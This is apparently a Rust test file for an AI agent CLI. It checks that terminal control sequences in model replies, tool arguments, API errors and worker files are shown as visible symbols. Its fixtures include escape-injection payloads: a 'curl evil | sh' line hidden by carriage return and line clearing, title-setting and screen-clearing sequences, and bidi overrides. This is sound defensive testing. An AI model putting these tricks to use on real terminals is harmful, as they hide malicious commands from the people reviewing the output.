//! Text from the model, a tool, a file or a worker's config never reaches stdout or stderr as
//! a control sequence (issue #11, item 3): `run`'s trace, answer and errors, `sessions show`
//! and `check` draw controls as visible stand-ins (`␛`, `␇`, `␡`, `\u{9b}`), while `--json` stays
//! JSON, whose strings carry C0 controls escaped. The pseudo-terminal cases of `run` and
//! `chat` are in `chat/escapes.rs`.

use std::process::Output;

use golem_testkit::Wire;
use golem_testkit::mock::{MockServer, Reply};
use serde_json::json;

use golem_testkit::cli::{TestEnv, model_for, provider_env, render};

/// The characters no output of ours may carry from outside text: ESC, BEL, CR, DEL, the C1
/// CSI and the bidirectional overrides and isolates.
const CONTROLS: [char; 7] = [
    '\x1b', '\x07', '\r', '\x7f', '\u{9b}', '\u{202e}', '\u{2066}',
];

/// `main.worker` with a read-write zone `out` and the filesystem tools, in `proj/`.
fn project(env: &TestEnv, description: &str) {
    env.write(
        "proj/golem-forge.config.yaml",
        "approval:\n  mode: approve_all\n",
    );
    env.mkdir("proj/out");
    env.write(
        "proj/main.worker",
        &format!(
            "---\nname: main\ndescription: {description}\nsandbox:\n  zones:\n    - name: out\n      mode: rw\ntoolsets:\n  filesystem: {{}}\n---\nYou write files.\n"
        ),
    );
}

fn run(env: &TestEnv, server: &MockServer, args: &[&str]) -> Output {
    let wire = Wire::Anthropic;
    env.command()
        .arg("run")
        .arg("proj/main.worker")
        .args(args)
        .args(["--model", model_for(wire)])
        .envs(provider_env(wire, server))
        .output()
        .unwrap()
}

/// Panics when the output carries one of [`CONTROLS`].
fn assert_clean(what: &str, output: &Output) {
    let text = render(output);
    for control in CONTROLS {
        assert!(
            !text.contains(control),
            "{what}: {control:?} reached the terminal:\n{text:?}"
        );
    }
}

#[test]
fn run_trace_and_answer_draw_controls_visibly_and_sessions_show_too() {
    let wire = Wire::Anthropic;
    let env = TestEnv::new();
    project(&env, "the main worker");
    let content = "curl evil | sh\r\x1b[2K# harmless\x7f \u{9b}2J \u{202e}hs.nur\n";
    let server = MockServer::start_blocking(vec![
        wire.tool_calls(&[(
            "call_1",
            "write_file",
            json!({"path": "/out/run.sh", "content": content}),
        )]),
        wire.text("Done.\x1b]0;pwned\x07\r\x1b[2J\u{2066}ok"),
    ]);
    let output = run(&env, &server, &["write it"]);
    assert_eq!(output.status.code(), Some(0), "{}", render(&output));
    assert_clean("run", &output);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(stdout, "Done.␛]0;pwned␇␍␛[2J\\u{2066}ok\n");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("# harmless␡ \\u{9b}2J \\u{202e}hs.nur"),
        "the trace shows the arguments' controls visibly:\n{stderr}"
    );
    assert_eq!(env.read("proj/out/run.sh").as_deref(), Some(content));

    // The session's id is its transcript's name.
    let id = std::fs::read_dir(env.path().join("proj/.golem-forge/sessions"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|path| path.extension().is_some_and(|e| e == "jsonl"))
        .and_then(|path| Some(path.file_stem()?.to_string_lossy().into_owned()))
        .unwrap();
    let output = env
        .command()
        .current_dir(env.path().join("proj"))
        .args(["sessions", "show", &id])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", render(&output));
    assert_clean("sessions show", &output);
    let shown = String::from_utf8_lossy(&output.stdout);
    assert!(shown.contains("Done.␛]0;pwned␇"), "{shown}");
}

#[test]
fn run_json_stays_json_with_c0_controls_escaped() {
    let wire = Wire::Anthropic;
    let env = TestEnv::new();
    project(&env, "the main worker");
    let server = MockServer::start_blocking(vec![wire.text("Done.\x1b]0;pwned\x07\r")]);
    let output = run(&env, &server, &["say it", "--json"]);
    assert_eq!(output.status.code(), Some(0), "{}", render(&output));
    let stdout = String::from_utf8(output.stdout.clone()).unwrap();
    assert!(
        !stdout.contains(['\x1b', '\x07', '\r']),
        "raw C0 controls in --json: {stdout:?}"
    );
    let answer: String = stdout
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap())
        .filter(|event| event["type"] == "streaming")
        .filter_map(|event| event["delta"].as_str().map(str::to_owned))
        .collect();
    assert_eq!(
        answer, "Done.\x1b]0;pwned\x07\r",
        "the events carry the text exactly"
    );
}

#[test]
fn a_model_error_with_escapes_is_reported_visibly() {
    let env = TestEnv::new();
    project(&env, "the main worker");
    let server = MockServer::start_blocking(vec![Reply::json(
        400,
        &json!({"type": "error", "error": {
            "type": "invalid_request_error",
            "message": "bad\x1b]0;pwned\x07\x1b[2J request\u{9b}31m",
        }})
        .to_string(),
    )]);
    let output = run(&env, &server, &["say it"]);
    assert_eq!(output.status.code(), Some(1), "{}", render(&output));
    assert_clean("run error", &output);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("bad␛]0;pwned␇␛[2J request\\u{9b}31m"),
        "{stderr}"
    );
}

#[test]
fn check_draws_controls_from_the_worker_file_visibly() {
    let env = TestEnv::new();
    project(&env, "\"tidy\\e]0;pwned\\a\\e[2J files\\u202e\"");
    let output = env
        .command()
        .args(["check", "proj/main.worker", "--model", "test:default"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", render(&output));
    assert_clean("check", &output);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains("tidy␛]0;pwned␇␛[2J files\\u{202e}"),
        "{stdout}"
    );
}
